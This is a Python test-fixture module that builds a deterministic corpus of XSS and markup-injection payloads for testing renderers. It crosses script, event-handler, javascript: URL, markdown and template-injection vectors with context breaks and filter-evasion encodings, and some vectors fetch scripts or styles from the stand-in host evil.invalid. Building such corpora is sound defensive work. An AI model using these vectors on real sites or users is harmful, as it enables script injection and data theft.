"""Texts that would run, fetch or break out if any place that shows text took them for markup.

Each kind of attack is written into each kind of place that it might have to break out of, in several spellings, as the
published collections do it (OWASP's filter-evasion sheet, PortSwigger's cheat sheet); all are ours to make and harmless:
they set `window.ran`, call `alert`, or ask for a host that does not exist.
"""

import itertools
import random
from collections.abc import Iterator

EVIL = "evil.invalid"
_RUN = "window.ran=1"
_ATTACKS = (
    f"<script>{_RUN}</script>", f"<img src=x onerror={_RUN}>", f"<svg onload={_RUN}>", f"<svg><script>{_RUN}</script></svg>",
    f"<body onload={_RUN}>", f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>", f"<iframe src=javascript:parent.{_RUN}>",
    f"<details open ontoggle={_RUN}>", f"<video><source onerror={_RUN}></video>", f"<audio src=x onerror={_RUN}>",
    f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>", f"<textarea autofocus onfocus={_RUN}>",
    f"<marquee onstart={_RUN}>", f"<object data=javascript:{_RUN}>", f"<embed src=javascript:{_RUN}>", f"<a href=javascript:{_RUN}>点</a>",
    f"<form action=javascript:{_RUN}><button>点</button></form>", f"<math><maction actiontype=statusline xlink:href=javascript:{_RUN}>x",
    f"<style>@import'//{EVIL}/a.css';</style>", f"<link rel=stylesheet href=//{EVIL}/b.css>", f"<meta http-equiv=refresh content='0;url=//{EVIL}/'>",
    f"<base href=//{EVIL}/>", f"<img src=//{EVIL}/c.png>", f"<image href=//{EVIL}/d.png>", f"<div style=background:url(//{EVIL}/e.png)>x</div>",
    f"<video poster=//{EVIL}/f.png></video>", f"<script src=//{EVIL}/g.js></script>", f"<template><img src=x onerror={_RUN}></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<div onpointerenter={_RUN} style=position:fixed;inset:0>x</div>",
    f"<p onclick={_RUN} tabindex=1 id=x>x", f"<animate onbegin={_RUN} attributeName=x dur=1s>", f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<xss style=animation-name:x onanimationstart={_RUN}></xss>", f"<dialog open onclose={_RUN}><form method=dialog><button autofocus>x</dialog>",
    f"[点](javascript:{_RUN})", f"![图](//{EVIL}/h.png)", f"![x](x\" onerror=\"{_RUN})", f"[x]: javascript:{_RUN}\n[x]", f"<javascript:{_RUN}>",
    f"${{{_RUN}}}", f"{{{{constructor.constructor('{_RUN}')()}}}}", f"{{{{#with this}}}}{{{{{_RUN}}}}}{{{{/with}}}}", f"<%= {_RUN} %>", f"`${{{_RUN}}}`",
    f"{{% raw %}}<img src=x onerror={_RUN}>{{% endraw %}}", f"$$\\href{{javascript:{_RUN}}}{{x}}$$", f"\\(\\unicode{{<img src=x onerror={_RUN}>}}\\)",
    f"javascript:{_RUN}//", f"data:text/html,<script>{_RUN}</script>", "alert(1)", f"onmouseover={_RUN} ",
)
_BREAKS = ("", '"', "'", "`", "\">", "'>", "-->", "]]>", "</script>", "</style>", "</textarea></title>", "</pre></p></div></article>", "\\\"", "\\';", "&quot;>",
           "\"/>", "*/", "\u2028", "</template>", "[1]", "| ", "\n- ", "**")
_SPELLINGS = (
    lambda text: text,
    lambda text: text.replace("<", "<\t").replace(" on", "\fon") if text.startswith("<\t") else text.replace(" on", "/on"),
    lambda text: "".join(c.upper() if n % 2 else c for n, c in enumerate(text)) if "ran" not in text else text.replace("script", "sCrIpT").replace("onerror", "oNeRrOr"),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("javascript:", "java\tscript:").replace("=", " = "),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("script", "scr\u200bipt"),
    lambda text: f"\u202e{text}\u202c",
)


def _all() -> Iterator[str]:
    yield from _ATTACKS
    drawn = [spell(cut + attack) for attack, cut, spell in itertools.product(_ATTACKS, _BREAKS, _SPELLINGS)]
    random.Random(41).shuffle(drawn)
    yield from drawn


def payloads(count: int) -> list[str]:
    """So many different ones, the plainest first; the same each time."""
    found = list(itertools.islice(dict.fromkeys(_all()), count))
    assert len(found) == count
    return found
